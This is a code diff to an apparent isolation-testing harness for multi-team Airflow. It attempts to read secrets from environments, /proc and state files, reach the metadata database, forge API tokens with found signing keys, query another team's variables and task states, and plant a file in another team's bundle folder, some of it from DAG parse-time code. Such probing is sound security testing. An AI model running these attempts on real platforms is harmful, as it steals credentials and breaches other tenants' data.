@@ -162,16 +162,14 @@ def row(succeeded: bool, detail: str, found: list[str] | None = None) -> dict:
     return {"succeeded": succeeded, "detail": detail, **({"found": found} if found is not None else {})}
 
 
-def attack(team: str, other: str, state: str, pg_port: int, api_url: str, other_redis_port: int, ti_id: str,
-           other_lineage: dict | None = None) -> dict:
-    """Every attempt of the matrix, from inside a task of ``team`` against ``other``.
-    ``other_lineage`` (``{"run_id", "job", "dataset": {"namespace", "name"}}``): a run and a
-    dataset ``other`` stored with its own key, for the lineage integrity attempts."""
-    state_dir = Path(state)
-    out: dict[str, dict] = {}
-
+def gather_secrets(state_dir: Path, out: dict[str, dict]) -> Loot:
+    """The three secret-hunting rows (own environment, /proc, state files) into ``out``; all
+    candidates found."""
     own = Loot()
     own.scan_env(dict(os.environ), "own environment")
+    own_environ = _environ("self")  # the process's initial environment (what fork inherited)
+    if own_environ:
+        own.scan_env(own_environ, "/proc/self/environ")
     out["read platform secrets from own environment"] = row(False, f"{len(own.values)} candidate(s)", own.hashes())
 
     procs = Loot()
@@ -200,7 +198,17 @@ def attack(team: str, other: str, state: str, pg_port: int, api_url: str, other_
     loot = Loot()
     for source in (own, procs, files):
         loot.values |= source.values
+    return loot
 
+
+def attack(team: str, other: str, state: str, pg_port: int, api_url: str, other_redis_port: int, ti_id: str,
+           other_lineage: dict | None = None) -> dict:
+    """Every attempt of the matrix, from inside a task of ``team`` against ``other``.
+    ``other_lineage`` (``{"run_id", "job", "dataset": {"namespace", "name"}}``): a run and a
+    dataset ``other`` stored with its own key, for the lineage integrity attempts."""
+    state_dir = Path(state)
+    out: dict[str, dict] = {}
+    loot = gather_secrets(state_dir, out)
     out["connect to the metadata database"] = _try_database(loot, state_dir, pg_port)
     out["read another team's connection (task SDK)"] = _try_sdk_connection(f"{other}_postgres")
     out["read another team's variable (task SDK)"] = _try_sdk_variable(f"{other}_alert_emails")
@@ -296,12 +304,16 @@ def _try_tokens(loot: Loot, api_url: str, ti_id: str, other_var: str) -> tuple[d
             task = JWTGenerator(valid_for=300, audience="urn:airflow.apache.org:task", **args).generate({"sub": ti_id})
         except Exception:  # not a usable key for this algorithm
             continue
-        r = requests.get(f"{api_url}/api/v2/dags", headers={"Authorization": f"Bearer {admin}"}, timeout=10)
-        if r.status_code == 200:
-            api_ok.append(kind)
-        r = requests.get(f"{api_url}/execution/variables/{other_var}", headers={"Authorization": f"Bearer {task}"}, timeout=10)
-        if r.status_code not in (401, 403):
-            exe_ok.append(f"{kind} ({r.status_code})")
+        try:
+            r = requests.get(f"{api_url}/api/v2/dags", headers={"Authorization": f"Bearer {admin}"}, timeout=10)
+            if r.status_code == 200:
+                api_ok.append(kind)
+            r = requests.get(f"{api_url}/execution/variables/{other_var}", headers={"Authorization": f"Bearer {task}"},
+                             timeout=10)
+            if r.status_code not in (401, 403):
+                exe_ok.append(f"{kind} ({r.status_code})")
+        except requests.RequestException:  # no api-server to accept it
+            continue
     detail = f"{len(signers)} signing key(s) found"
     return (
         row(bool(api_ok), f"{detail}; accepted: {api_ok}"),
@@ -410,3 +422,75 @@ def _try_lineage_integrity(url: str, namespace: str, own_key: str, team: str, ta
         except requests.RequestException as e:
             out[name] = type(e).__name__
     return out
+
+
+PARSE_ATTEMPTS = (
+    "read platform secrets from own environment",
+    "read platform secrets from /proc of other processes",
+    "read platform secrets from state files",
+    "connect to the metadata database",
+    "read another team's variable (in-process API)",
+    "list another team's variable keys (in-process API)",
+    "read another team's task states (in-process API)",
+    "read another team's bundle folder",
+    "write into another team's bundle folder",
+    "sign a token accepted by /api/v2",
+)
+
+
+def parse_time_attack(team: str, other: str, state: str, pg_port: int, api_url: str, other_bundle: str) -> dict:
+    """The attempts a DAG file's top-level code can make, run once per platform (the result is
+    kept in a file of the parsing user, so every later parse publishes the same ``doc_md`` and
+    the DAG gets no new version). ``runtime`` tells who parsed it."""
+    import tempfile
+
+    cache = Path(tempfile.gettempdir()) / f"parse-probe-{Path(state).name}-{team}-{os.getuid()}.json"
+    if cache.exists():
+        return json.loads(cache.read_text())
+    state_dir = Path(state)
+    out: dict[str, dict] = {}
+    loot = gather_secrets(state_dir, out)
+    out["connect to the metadata database"] = _try_database(loot, state_dir, pg_port)
+    out["read another team's variable (in-process API)"] = _try_sdk_variable(f"{other}_alert_emails")
+    out.update(_try_in_process_api(other))
+    out.update(_try_bundle(Path(other_bundle)))
+    out["sign a token accepted by /api/v2"], _ = _try_tokens(loot, api_url, "00000000-0000-0000-0000-000000000000",
+                                                            f"{other}_alert_emails")
+    out["runtime"] = {"uid": os.getuid(), "env_keys": sorted(os.environ)}
+    cache.write_text(json.dumps(out))
+    return out
+
+
+def _try_in_process_api(other: str) -> dict[str, dict]:
+    """What the dag-processor's in-process Execution API answers a parse child about ``other``."""
+    from airflow.sdk.execution_time import task_runner
+    from airflow.sdk.execution_time.comms import GetTaskStates, GetVariableKeys
+
+    out = {}
+    try:
+        keys = list(task_runner.SUPERVISOR_COMMS.send(GetVariableKeys()).keys)
+        theirs = [k for k in keys if k.startswith(f"{other}_")]
+        out["list another team's variable keys (in-process API)"] = row(bool(theirs), f"{len(theirs)} of {other}'s keys")
+    except Exception as e:
+        out["list another team's variable keys (in-process API)"] = row(False, type(e).__name__)
+    try:
+        states = getattr(task_runner.SUPERVISOR_COMMS.send(GetTaskStates(dag_id=f"{other}_conn_probe")), "task_states", None)
+        out["read another team's task states (in-process API)"] = row(states is not None, f"answer: {type(states).__name__}")
+    except Exception as e:
+        out["read another team's task states (in-process API)"] = row(False, type(e).__name__)
+    return out
+
+
+def _try_bundle(folder: Path) -> dict[str, dict]:
+    try:
+        names = os.listdir(folder)
+        listed = row(True, f"{len(names)} entries listed")
+    except OSError as e:
+        listed = row(False, type(e).__name__)
+    planted = folder / "planted_by_another_team.py"
+    try:
+        planted.write_text("# planted\n")
+        wrote = row(True, "a file was written")
+    except OSError as e:
+        wrote = row(False, type(e).__name__)
+    return {"read another team's bundle folder": listed, "write into another team's bundle folder": wrote}
